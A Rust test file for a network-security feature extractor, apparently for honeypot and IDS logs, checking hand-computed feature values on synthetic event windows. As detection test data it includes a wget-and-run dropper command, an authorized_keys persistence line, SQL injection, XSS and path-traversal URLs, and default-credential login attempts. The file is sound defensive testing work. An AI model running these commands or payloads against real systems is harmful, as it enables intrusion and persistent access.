//! Every feature group on hand-built windows, against values computed by hand from the
//! formulas in `docs/FEATURES.md` (the arithmetic is spelled out next to each value).

use std::f64::consts::PI;

use vigil_features::{AppProto, Event, EventKind, Transport};

use crate::{check, check_vector, entropy, ev, features, fixture_intel, ln1p};

const DAY: f64 = 86_400.0;

/// Monday 10:30:00, 10:30:30, 10:31:10 and Saturday 02:00:00 (UTC).
fn time_window() -> Vec<Event> {
    vec![
        ev(10.5 * 3600.0, EventKind::Other),
        ev(10.5 * 3600.0 + 30.0, EventKind::Other),
        ev(10.5 * 3600.0 + 70.0, EventKind::Other),
        ev(5.0 * DAY + 2.0 * 3600.0, EventKind::Other),
    ]
}

#[test]
fn time() {
    let w = time_window();
    // The newest event is at 02:00 on a Saturday: h = 2, weekday 5.
    // Span: Monday 10:30 to Saturday 02:00 = 4 days 15.5 h = 401,400 s.
    check(
        &w,
        &[
            ("hour_sin", (2.0 * PI * 2.0 / 24.0).sin()),
            ("hour_cos", (2.0 * PI * 2.0 / 24.0).cos()),
            ("day_of_week", 5.0 / 6.0),
            ("weekend_fraction", 1.0 / 4.0),
            ("business_hours_fraction", 3.0 / 4.0),
            ("night_fraction", 1.0 / 4.0),
            ("time_span", ln1p(401_400.0)),
        ],
    );
}

/// Times 0, 30, 50, 1000, 3700, 3900, 3950, 3960 s after Monday 00:00.
fn eight() -> Vec<Event> {
    let kinds = [EventKind::LoginFailed, EventKind::Other];
    [0.0, 30.0, 50.0, 1000.0, 3700.0, 3900.0, 3950.0, 3960.0]
        .iter()
        .enumerate()
        .map(|(i, &t)| ev(t, kinds[i % 2]))
        .collect()
}

#[test]
fn volume() {
    // t_end = 3960. Within 60 s: 3950, 3960 (3900 is exactly 60 s back: out). Within 300 s:
    // + 3700, 3900. Within 3600 s: + 1000. Within a day: all 8.
    // Busiest [t, t + 60 s): [0, 60) holds 0, 30, 50; [3900, 3960) only 3900, 3950 → 3.
    // Minutes ⌊t/60⌋: 0, 0, 0, 16, 61, 65, 65, 66 → 5 distinct over minutes 0..=66 (67).
    check(
        &eight(),
        &[
            ("event_count_1min", ln1p(2.0)),
            ("event_count_5min", ln1p(4.0)),
            ("event_count_1h", ln1p(5.0)),
            ("event_count_24h", ln1p(8.0)),
            ("event_count", ln1p(8.0)),
            ("events_per_minute", ln1p(60.0 * 8.0 / 3960.0)),
            ("peak_events_per_minute", ln1p(3.0)),
            ("burst_fraction", 3.0 / 8.0),
            ("active_minutes", ln1p(5.0)),
            ("duty_cycle", 5.0 / 67.0),
        ],
    );
}

fn hourly_window() -> Vec<Event> {
    vec![
        ev(0.0, EventKind::Other),
        ev(1.0, EventKind::Other),
        ev(2.0, EventKind::Other),
        ev(3600.0, EventKind::Other),
    ]
}

#[test]
fn statistical_gaps_kinds_and_hours() {
    // Gaps: 30, 20, 950, 2700, 200, 50, 10 (sum 3960). Sorted: 10 20 30 50 200 950 2700.
    let gaps = [30.0, 20.0, 950.0, 2700.0, 200.0, 50.0, 10.0];
    let mean = 3960.0 / 7.0;
    let var = gaps.iter().map(|g| (g - mean) * (g - mean)).sum::<f64>() / 7.0;
    // Kinds: 4 login_failed, 4 other → 1 bit, over log2(15).
    // Hours ⌊t/3600⌋: 0,0,0,0,1,1,1,1 → counts 4 and 4 → cv 0.
    check(
        &eight(),
        &[
            ("mean_inter_event_time", ln1p(mean)),
            ("std_inter_event_time", ln1p(var.sqrt())),
            ("median_inter_event_time", ln1p(50.0)),
            ("max_inter_event_time", ln1p(2700.0)),
            ("kind_entropy", 1.0 / 15f64.log2()),
            ("hourly_activity_cv", 0.0),
        ],
    );
    // Hours 0, 0, 0, 1 → counts 3 and 1: mean 2, std 1 → cv 0.5. One gap per pair.
    check(
        &hourly_window(),
        &[
            ("hourly_activity_cv", 0.5),
            ("median_inter_event_time", ln1p(1.0)),
            ("kind_entropy", 0.0),
        ],
    );
}

fn port_window() -> Vec<Event> {
    let dst = [Some(22), Some(22), Some(23), Some(24), Some(80), Some(50000)];
    let src = [Some(40000), Some(40000), Some(40001), Some(1023), None, None];
    (0..6)
        .map(|i| {
            let mut e = ev(i as f64, EventKind::Flow);
            (e.dst_port, e.src_port) = (dst[i], src[i]);
            e
        })
        .collect()
}

#[test]
fn port() {
    let w = port_window();
    // dst: 22×2, 23, 24, 80, 50000 → 5 distinct of 6; common: 22, 22, 23, 80 → 4/6;
    // high: 50000 → 1/6; src: 40000×2, 40001, 1023 → 3 distinct, 1023 < 1024 → 1/4;
    // sorted distinct dst 22 23 24 80 50000: steps of 1 at 22→23, 23→24 → 2 of 4.
    check(
        &w,
        &[
            ("unique_dst_ports", ln1p(5.0)),
            ("unique_src_ports", ln1p(3.0)),
            ("dst_port_diversity", 5.0 / 6.0),
            ("dst_port_entropy", entropy(&[2, 1, 1, 1, 1])),
            ("common_port_fraction", 4.0 / 6.0),
            ("high_port_fraction", 1.0 / 6.0),
            ("low_src_port_fraction", 1.0 / 4.0),
            ("sequential_port_fraction", 0.5),
        ],
    );
    // 2.25163 bits = (1/3)·log2 3 + (2/3)·log2 6.
    assert!((entropy(&[2, 1, 1, 1, 1]) - 2.251_629).abs() < 1e-6);
}

fn protocol_window() -> Vec<Event> {
    let spec = [
        (Transport::Tcp, AppProto::Ssh),
        (Transport::Tcp, AppProto::Ssh),
        (Transport::Tcp, AppProto::Http),
        (Transport::Udp, AppProto::Dns),
        (Transport::Icmp, AppProto::Unknown),
        (Transport::Unknown, AppProto::Unknown),
    ];
    spec.iter()
        .enumerate()
        .map(|(i, &(t, a))| {
            let mut e = ev(i as f64, EventKind::Flow);
            (e.transport, e.app_proto) = (t, a);
            e
        })
        .collect()
}

#[test]
fn protocol() {
    let w = protocol_window();
    check(
        &w,
        &[
            ("tcp_fraction", 3.0 / 6.0),
            ("udp_fraction", 1.0 / 6.0),
            ("icmp_fraction", 1.0 / 6.0),
            ("ssh_fraction", 2.0 / 6.0),
            ("http_fraction", 1.0 / 6.0),
            ("protocol_diversity", 3.0),
        ],
    );
}

fn login(t: f64, kind: EventKind, session: Option<&str>, user: &str, password: &str) -> Event {
    let mut e = ev(t, kind);
    e.session = session.map(Into::into);
    e.username = Some(user.into());
    e.password = Some(password.into());
    e
}

fn auth_window() -> Vec<Event> {
    use EventKind::{LoginFailed as F, LoginSuccess as S};
    vec![
        login(0.0, F, Some("a"), "root", "root"),
        login(10.0, F, Some("a"), "root", "123456"),
        login(20.0, F, Some("a"), "admin", "admin"),
        login(200.0, F, Some("b"), "oracle", "x"),
        login(205.0, S, Some("b"), "deploy", ""),
        login(300.0, F, None, "root", "toor"),
        ev(400.0, EventKind::SessionClosed),
    ]
}

#[test]
fn auth() {
    let w = auth_window();
    // 6 logins, 5 failed. Users: root, admin, oracle, deploy (4). Passwords: root, 123456,
    // admin, x, "", toor (6). Default names: root×3, admin, oracle → 5/6. user = password:
    // root/root, admin/admin → 2/6. Sessions: a, b and the session-less login → 3.
    // Failed logins span 0..300 s → 60·5/300 = 1 per minute. Password lengths 4 6 5 1 0 4.
    check(
        &w,
        &[
            ("failed_login_count", ln1p(5.0)),
            ("successful_login_count", ln1p(1.0)),
            ("login_failure_rate", 5.0 / 6.0),
            ("unique_usernames", ln1p(4.0)),
            ("unique_passwords", ln1p(6.0)),
            ("passwords_per_username", ln1p(6.0 / 4.0)),
            ("default_username_fraction", 5.0 / 6.0),
            ("username_as_password_fraction", 2.0 / 6.0),
            ("logins_per_session", ln1p(6.0 / 3.0)),
            ("failed_logins_per_minute", ln1p(1.0)),
            ("mean_password_length", ln1p(20.0 / 6.0)),
        ],
    );
    check(
        &[ev(0.0, EventKind::Other)],
        &[
            ("login_failure_rate", 0.0),
            ("passwords_per_username", 0.0),
            ("logins_per_session", 0.0),
        ],
    );
}

fn command(t: f64, kind: EventKind, text: &str) -> Event {
    let mut e = ev(t, kind);
    e.command = Some(text.into());
    e
}

const DROPPER: &str = "cd /tmp; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh";
const KEY: &str = "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys";

fn command_window() -> Vec<Event> {
    use EventKind::Command as C;
    vec![
        command(0.0, C, "uname -a"),
        command(1.0, C, "uname -a "),
        command(2.0, C, DROPPER),
        command(3.0, C, "sudo su"),
        command(4.0, C, KEY),
        command(5.0, EventKind::CommandFailed, "foo"),
        ev(6.0, EventKind::FileDownload),
        ev(7.0, EventKind::FileDownload),
        ev(8.0, EventKind::FileUpload),
    ]
}

#[test]
fn command_group() {
    let w = command_window();
    // 5 commands ("uname -a" twice once trimmed), 1 failed → 1/5. Distinct: 4 with counts
    // 2, 1, 1, 1. Fetch tool: the dropper (wget); script: the dropper (./x.sh); privilege:
    // sudo su; recon: uname ×2; persistence: authorized_keys.
    let chars = 8 + 8 + DROPPER.len() + 7 + KEY.len();
    check(
        &w,
        &[
            ("command_count", ln1p(5.0)),
            ("unique_commands", ln1p(4.0)),
            ("failed_command_fraction", 1.0 / 5.0),
            ("download_tool_fraction", 1.0 / 5.0),
            ("script_execution_fraction", 1.0 / 5.0),
            ("privilege_escalation_fraction", 1.0 / 5.0),
            ("recon_command_fraction", 2.0 / 5.0),
            ("persistence_command_fraction", 1.0 / 5.0),
            ("file_download_count", ln1p(2.0)),
            ("file_upload_count", ln1p(1.0)),
            ("mean_command_length", ln1p(chars as f64 / 5.0)),
            ("command_entropy", entropy(&[2, 1, 1, 1])),
        ],
    );
    // -(0.4·log2 0.4 + 3·0.2·log2 0.2) = 1.921928 bits.
    assert!((entropy(&[2, 1, 1, 1]) - 1.921_928).abs() < 1e-6);
}

fn request(t: f64, method: &str, url: &str, status: Option<u16>) -> Event {
    let mut e = ev(t, EventKind::HttpRequest);
    e.method = Some(method.into());
    e.url = Some(url.into());
    e.status = status;
    e
}

fn byte_entropy(s: &str) -> f64 {
    let mut counts = [0usize; 256];
    s.bytes().for_each(|b| counts[b as usize] += 1);
    entropy(&counts)
}

const URLS: [&str; 7] = [
    "/index.php",
    "/index.php",
    "/wp-login.php",
    "/search?q=1%27%20OR%201=1--",
    "/?x=<script>alert(1)</script>",
    "/../../etc/passwd",
    "http://google.com/",
];

fn http_window() -> Vec<Event> {
    let mut tunnel = ev(6.0, EventKind::ForwardData);
    tunnel.method = Some("GET".into());
    tunnel.url = Some(URLS[6].into());
    vec![
        request(0.0, "GET", URLS[0], Some(200)),
        request(1.0, "GET", URLS[1], Some(200)),
        request(2.0, "POST", URLS[2], Some(404)),
        request(3.0, "GET", URLS[3], Some(500)),
        request(4.0, "GET", URLS[4], None),
        request(5.0, "HEAD", URLS[5], Some(400)),
        tunnel,
        ev(7.0, EventKind::Other),
    ]
}

#[test]
fn http() {
    let w = http_window();
    // 7 requests (the tunnel carries a GET). Methods GET, POST, HEAD. Paths: /index.php,
    // /wp-login.php, /search, / (twice: "/?x=..." and the tunnel's), /../../etc/passwd → 5.
    // Suspicious: /wp-login; SQLi: "1' or 1=1--" once decoded; XSS: <script; traversal:
    // ../ → 1 each. Statuses 200 200 404 500 400: 3 of 5 are ≥ 400.
    let length: usize = URLS.iter().map(|u| u.len()).sum();
    let entropy: f64 = URLS.iter().map(|u| byte_entropy(u)).sum();
    check(
        &w,
        &[
            ("http_request_count", ln1p(7.0)),
            ("http_method_count", 3.0),
            ("unique_paths", ln1p(5.0)),
            ("mean_url_length", ln1p(length as f64 / 7.0)),
            ("url_char_entropy", entropy / 7.0),
            ("suspicious_path_fraction", 1.0 / 7.0),
            ("sql_injection_fraction", 1.0 / 7.0),
            ("xss_fraction", 1.0 / 7.0),
            ("path_traversal_fraction", 1.0 / 7.0),
            ("http_error_fraction", 3.0 / 5.0),
        ],
    );
}

fn network_window() -> Vec<Event> {
    let mut w = Vec::new();
    let mut add = |t: f64, kind: EventKind, session: Option<&str>, f: &dyn Fn(&mut Event)| {
        let mut e = ev(t, kind);
        e.session = session.map(Into::into);
        f(&mut e);
        w.push(e);
    };
    let honeypot =
        |e: &mut Event| (e.dst_ip, e.dst_port) = (Some("172.17.0.3".parse().unwrap()), Some(2222));
    add(0.0, EventKind::SessionConnect, Some("s1"), &honeypot);
    add(5.0, EventKind::LoginFailed, Some("s1"), &|_| {});
    add(10.0, EventKind::SessionClosed, Some("s1"), &|e| e.duration = Some(12.0));
    add(8.0, EventKind::SessionConnect, Some("s2"), &honeypot);
    add(9.0, EventKind::SessionClosed, Some("s2"), &|e| e.duration = Some(1.0));
    add(100.0, EventKind::ForwardRequest, Some("s3"), &|e| {
        (e.dst_ip, e.dst_port) = (Some("8.8.8.8".parse().unwrap()), Some(53));
    });
    add(101.0, EventKind::ForwardData, Some("s3"), &|e| e.bytes_out = Some(36));
    add(200.0, EventKind::Flow, None, &|e| (e.bytes_out, e.bytes_in) = (Some(1000), Some(3000)));
    add(300.0, EventKind::IdsAlert, None, &|e| e.severity = Some(2));
    add(301.0, EventKind::IdsAlert, None, &|_| {});
    w
}

#[test]
fn network() {
    let w = network_window();
    // Bytes: out 36 + 1000, in 3000. Sessions: s1 lasts 12 s (closed duration), s2 1 s,
    // s3 1 s (no close: 101 − 100). Intervals s1 [0, 12], s2 [8, 9], s3 [100, 101] → at
    // most 2 at once. s2 holds only connect/close → 1 of 3 empty. Alerts: severities 2 and
    // unset (3) → max(1/2, 1/3).
    check(
        &w,
        &[
            ("bytes_out", ln1p(1036.0)),
            ("bytes_in", ln1p(3000.0)),
            ("bytes_out_ratio", 1036.0 / 4036.0),
            ("session_count", ln1p(3.0)),
            ("mean_session_duration", ln1p(14.0 / 3.0)),
            ("max_concurrent_sessions", ln1p(2.0)),
            ("empty_session_fraction", 1.0 / 3.0),
            ("forward_request_count", ln1p(1.0)),
            ("ids_alert_count", ln1p(2.0)),
            ("alert_severity_max", 0.5),
        ],
    );
}

/// Schema v2: flow records (each its own session, as Zeek's `uid` makes them) count their
/// duration as the session's, and count as content only with a recognised protocol.
#[test]
fn flows_are_sessions() {
    let flow = |t: f64, id: &str, app: AppProto, secs: Option<f64>| {
        let mut e = ev(t, EventKind::Flow);
        (e.session, e.app_proto, e.duration) = (Some(id.into()), app, secs);
        e.transport = Transport::Tcp;
        e
    };
    // A scanner: three unanswered SYNs (no protocol, no duration).
    let scan: Vec<Event> =
        (0..3).map(|i| flow(f64::from(i), &format!("C{i}"), AppProto::Unknown, None)).collect();
    check(
        &scan,
        &[
            ("session_count", ln1p(3.0)),
            ("empty_session_fraction", 1.0),
            ("mean_session_duration", 0.0),
            ("max_concurrent_sessions", ln1p(1.0)),
        ],
    );
    // A host: a 30 s TLS flow, a 90 s HTTP flow overlapping it, and an unrecognised one.
    let host = vec![
        flow(0.0, "C1", AppProto::Tls, Some(30.0)),
        flow(10.0, "C2", AppProto::Http, Some(90.0)),
        flow(200.0, "C3", AppProto::Unknown, Some(2.0)),
    ];
    check(
        &host,
        &[
            ("empty_session_fraction", 1.0 / 3.0),
            ("mean_session_duration", ln1p(122.0 / 3.0)),
            ("max_concurrent_sessions", ln1p(2.0)),
        ],
    );
}

/// A window of 203.0.113.66, which the fixture feeds list.
fn intel_window() -> Vec<Event> {
    let attacker: std::net::IpAddr = "203.0.113.66".parse().unwrap();
    // 2018-05-11T00:00:00Z = Monday + 4 days.
    let mut download = ev(4.0 * DAY, EventKind::FileDownload);
    download.url = Some("http://evil-update.example.net/x.sh".into());
    let mut payload = ev(4.0 * DAY - 10.0, EventKind::FileDownload);
    payload.url = Some("http://198.51.100.7/bins.sh".into());
    let mut tunnel = ev(4.0 * DAY - 20.0, EventKind::ForwardRequest);
    tunnel.dst_host = Some("WWW.example.com".into());
    let mut w = vec![download, payload, tunnel];
    for e in &mut w {
        e.src_ip = attacker;
    }
    w
}

/// A window of 198.51.100.23 (reputation 37, ASN 64497, in the block list) talking to the
/// C2 203.0.113.200 and downloading from mdb7.cn.
fn c2_window() -> Vec<Event> {
    let client: std::net::IpAddr = "198.51.100.23".parse().unwrap();
    let mut flow = ev(4.0 * DAY, EventKind::Flow);
    flow.dst_ip = Some("203.0.113.200".parse().unwrap());
    let mut download = ev(4.0 * DAY + 1.0, EventKind::FileDownload);
    download.url = Some("http://mdb7.cn:8081/exp".into());
    let mut w = vec![flow, download];
    for e in &mut w {
        e.src_ip = client;
    }
    w
}

#[test]
fn threat_intel() {
    let intel = fixture_intel();
    let w = intel_window();
    // 203.0.113.66: AbuseIPDB 100 → 1.0; in the Tor exit-addresses list; ASN 64498 scored
    // 0.5; listed by the block list (203.0.113.64/28), Tor and the reputation file → 3
    // matches. Youngest domain: evil-update.example.net, created 2018-05-01, 10 days before
    // t_end (www.example.com falls back to example.com, 1995). The download host
    // 198.51.100.7 is a Feodo C2.
    check_vector(
        &vigil_features::extract(&w, &intel),
        &[
            ("ip_reputation", 1.0),
            ("tor_exit_node", 1.0),
            ("asn_reputation", 0.5),
            ("domain_age_days", ln1p(10.0)),
            ("threat_intel_matches", 3.0),
            ("known_c2", 1.0),
        ],
    );
    // mdb7.cn was created 2018-05-10T06:30Z, 17.5 h before t_end (2018-05-11T00:00:01Z).
    check_vector(
        &vigil_features::extract(&c2_window(), &intel),
        &[
            ("ip_reputation", 0.37),
            ("tor_exit_node", 0.0),
            ("asn_reputation", 0.9),
            ("domain_age_days", ln1p((17.5 * 3600.0 + 1.0) / DAY)),
            ("threat_intel_matches", 2.0),
            ("known_c2", 1.0),
        ],
    );
    // 192.0.2.10 is listed with score 0 (no match), ASN 64496 scores 0.1, no domains.
    check_vector(
        &vigil_features::extract(&[ev(0.0, EventKind::LoginFailed)], &intel),
        &[
            ("ip_reputation", 0.0),
            ("tor_exit_node", 0.0),
            ("asn_reputation", 0.1),
            ("domain_age_days", -1.0),
            ("threat_intel_matches", 0.0),
            ("known_c2", 0.0),
        ],
    );
}

fn sessions_window() -> Vec<Event> {
    let mut w = Vec::new();
    for (session, start, middle, duration) in [
        ("A", 0.0, EventKind::LoginFailed, 2.5),
        ("B", 10.0, EventKind::LoginFailed, 2.0),
        ("C", 100.0, EventKind::Command, 5.0),
    ] {
        let mut events = [
            ev(start, EventKind::SessionConnect),
            ev(start + 1.0, middle),
            ev(start + 2.0, EventKind::SessionClosed),
        ];
        events[1].command = (middle == EventKind::Command).then(|| "ls".into());
        events[2].duration = Some(duration);
        for mut e in events {
            e.session = Some(session.into());
            w.push(e);
        }
    }
    w
}

#[test]
fn behavioral_sessions_and_timing() {
    let w = sessions_window();
    // Signatures: A and B are connect, login_failed, closed; C is connect, command "ls",
    // closed → 2 of 3 share the commonest. Durations 2.5, 2, 5.
    let durations = [2.5, 2.0, 5.0];
    let mean = 9.5 / 3.0;
    let var = durations.iter().map(|d| (d - mean) * (d - mean)).sum::<f64>() / 3.0;
    // Times 0 1 2 10 11 12 100 101 102 → gaps 1 1 8 1 1 88 1 1 (mean 102/8).
    let gaps = [1.0, 1.0, 8.0, 1.0, 1.0, 88.0, 1.0, 1.0];
    let g_mean = 102.0 / 8.0;
    let g_std = (gaps.iter().map(|g| (g - g_mean) * (g - g_mean)).sum::<f64>() / 8.0).sqrt();
    // Gap bins: 1 and 8 fall in [1, 10) (7 gaps), 88 in [60, 600) (1 gap).
    check(
        &w,
        &[
            ("behavioral_consistency", 2.0 / 3.0),
            ("session_duration_variance", ln1p(var)),
            ("timing_regularity", 1.0 / (1.0 + g_std / g_mean)),
            ("inter_event_time_entropy", entropy(&[7, 1]) / 3.0),
            ("command_entropy", 0.0),
        ],
    );
}

fn resources_window() -> Vec<Event> {
    let ip = |s: &str| Some(s.parse().unwrap());
    let mut w = Vec::new();
    let mut add = |t: f64, kind: EventKind, f: &dyn Fn(&mut Event)| {
        let mut e = ev(t, kind);
        f(&mut e);
        w.push(e);
    };
    add(0.0, EventKind::SessionConnect, &|e| e.dst_ip = ip("172.17.0.3"));
    add(1.0, EventKind::Command, &|e| e.command = Some("ls -la".into()));
    add(2.0, EventKind::Command, &|e| e.command = Some("ls".into()));
    add(3.0, EventKind::FileDownload, &|e| e.url = Some("http://a.example/x".into()));
    add(4.0, EventKind::ForwardRequest, &|e| (e.dst_ip, e.dst_port) = (ip("10.1.1.1"), Some(22)));
    add(5.0, EventKind::ForwardRequest, &|e| (e.dst_ip, e.dst_port) = (ip("10.1.1.2"), Some(22)));
    add(6.0, EventKind::ForwardData, &|e| {
        (e.dst_ip, e.dst_port, e.bytes_out) = (ip("10.1.1.1"), Some(22), Some(5000));
    });
    add(7.0, EventKind::Flow, &|e| {
        (e.dst_ip, e.bytes_out, e.bytes_in) = (ip("8.8.8.8"), Some(10_240), Some(2048));
    });
    add(8.0, EventKind::Flow, &|e| (e.dst_ip, e.bytes_out) = (ip("172.17.0.3"), Some(99)));
    add(9.0, EventKind::HttpRequest, &|e| e.url = Some("/a?x=1".into()));
    add(10.0, EventKind::HttpRequest, &|e| e.url = Some("/a?x=2".into()));
    w
}

#[test]
fn behavioral_resources_lateral_exfiltration() {
    let w = resources_window();
    // Resources: program ls (twice), the download URL, tunnels 10.1.1.1:22 (request and
    // data) and 10.1.1.2:22, path /a (twice) → 5. Internal destinations other than the
    // sensor's own 172.17.0.3: 10.1.1.1, 10.1.1.2. Public bytes: 8.8.8.8 only,
    // (10240 − 2048) / 1024 = 8 KiB net out. Commands "ls -la", "ls": 1 bit.
    check(
        &w,
        &[
            ("resource_access_diversity", ln1p(5.0)),
            ("lateral_movement_score", ln1p(2.0)),
            ("data_exfiltration_score", ln1p(8.0)),
            ("command_entropy", 1.0),
        ],
    );
}

fn graph_window() -> Vec<Event> {
    let ip = |s: &str| Some(s.parse().unwrap());
    let visits: [(f64, Option<std::net::IpAddr>, Option<&str>); 9] = [
        (0.0, ip("10.0.0.1"), None),         // A
        (10.0, ip("10.0.0.2"), None),        // B
        (20.0, ip("10.0.0.3"), None),        // C
        (30.0, ip("10.0.0.1"), None),        // A
        (40.0, ip("10.0.0.2"), None),        // B
        (50.0, ip("10.0.0.1"), None),        // A
        (1000.0, None, Some("Example.COM")), // D (950 s after A: no link)
        (1010.0, ip("10.0.0.5"), None),      // E
        (5000.0, ip("10.0.0.6"), None),      // F (isolated)
    ];
    let mut w: Vec<_> = visits
        .iter()
        .map(|&(t, dst, host)| {
            let mut e = ev(t, EventKind::Flow);
            (e.dst_ip, e.dst_host) = (dst, host.map(Into::into));
            e
        })
        .collect();
    w.push(ev(60.0, EventKind::LoginFailed)); // no destination: not a node, no break
    w
}

#[test]
fn graph() {
    let w = graph_window();
    // Transitions: A→B, B→C, C→A, A→B, B→A, D→E. Edges AB, BC, CA, DE. Degrees A 2, B 2,
    // C 2, D 1, E 1, F 0. Triangle ABC → local clustering 1 for A, B, C. Components
    // {A,B,C}, {D,E}, {F}. Visits A 3, B 2, C 1, D 1, E 1, F 1. A↔B both ways.
    check(
        &w,
        &[
            ("degree_centrality", 2.0 / 5.0),
            ("clustering_coefficient", 1.0),
            ("connectivity", (6.0 - 3.0) / 5.0),
            ("communication_pattern_entropy", entropy(&[3, 2, 1, 1, 1, 1]) / 6f64.log2()),
            ("unique_destinations", ln1p(6.0)),
            ("bidirectional_pairs", ln1p(1.0)),
            ("isolation", 1.0 / 6.0),
        ],
    );
}

#[test]
fn empty_window_is_defined() {
    let v = features(&[]);
    for (name, value) in v.iter() {
        let want = match name {
            "domain_age_days" => -1.0,
            "isolation" => 1.0,
            _ => 0.0,
        };
        assert_eq!(value, want, "{name}");
    }
    // One event: defined too.
    let one = features(&[ev(0.0, EventKind::Other)]);
    check_vector(
        &one,
        &[
            ("event_count", ln1p(1.0)),
            ("burst_fraction", 1.0),
            ("duty_cycle", 1.0),
            ("timing_regularity", 0.0),
        ],
    );
}

/// Every hand-built window above (for the invariant tests).
pub(crate) fn all() -> Vec<Vec<Event>> {
    vec![
        time_window(),
        eight(),
        hourly_window(),
        port_window(),
        protocol_window(),
        auth_window(),
        command_window(),
        http_window(),
        network_window(),
        intel_window(),
        c2_window(),
        sessions_window(),
        resources_window(),
        graph_window(),
    ]
}
